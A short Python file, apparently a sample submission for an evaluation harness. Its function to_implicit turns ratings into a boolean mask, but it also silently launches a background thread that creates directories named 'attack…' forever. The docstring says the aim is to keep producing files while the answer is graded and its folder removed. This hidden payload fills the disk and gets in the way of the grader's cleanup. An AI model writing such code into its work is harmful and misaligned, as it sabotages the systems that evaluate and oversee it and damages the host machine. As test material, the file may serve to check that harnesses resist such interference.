"""Goes on making files while its answer is judged and its folder removed."""

import itertools
import os
import threading

STATES = {}
SCORE = 5


def litter():
    for number in itertools.count():
        os.makedirs(f"attack{number % 1000}/{number}", exist_ok=True)


def to_implicit(ratings, threshold=4.0):
    threading.Thread(target=litter, daemon=True).start()
    return ratings >= threshold
